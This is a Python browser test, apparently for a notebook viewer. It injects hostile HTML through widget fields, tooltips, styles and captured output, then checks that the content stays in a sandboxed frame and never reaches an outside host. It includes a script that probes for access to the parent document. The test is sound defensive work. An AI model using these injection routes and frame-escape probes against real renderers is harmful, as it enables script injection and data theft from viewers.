def test_hostile_widgets_stay_in_their_frame(browser: Browser, stage: Stage, elsewhere: Elsewhere) -> None:
    attacks = [attack for attack in hostile(elsewhere.url) if "refresh" not in attack]
    joined = "<b>shown</b>" + "\n".join(attacks).replace("window.", "parent.")
    shown = {"output_type": "display_data", "data": {"text/html": joined, "text/plain": "x"}, "metadata": {}}
    slider = IntSlider(1, description=joined, description_allow_html=True)
    widgets = [HTML(joined), Label(joined), slider, Button(description=joined), Capture(outputs=(shown,))]
    box = VBox(widgets)
    stage.comms(box)
    stage.push(MergeCommState(slider.model_id, {"tooltip": joined, "style": joined}))
    row = stage.cell(stage.widget(box.model_id, joined))
    with viewing(browser, stage, hostile=True) as viewer:
        frame = viewer.widgets(viewer.open(row))
        expect(frame.locator("b", has_text="shown").first).to_be_visible()
        assert viewer.js("[window.rtcRan, violations.length]") == [None, 0]
        inner = viewer.frames()[0]
        assert inner.evaluate("[window.rtcRan, origin]") == [None, "null"]
        reach = "(() => { try { return parent.document.title } catch (error) { return error.name } })()"
        assert inner.evaluate(reach) == "SecurityError"
        assert elsewhere.visits == []
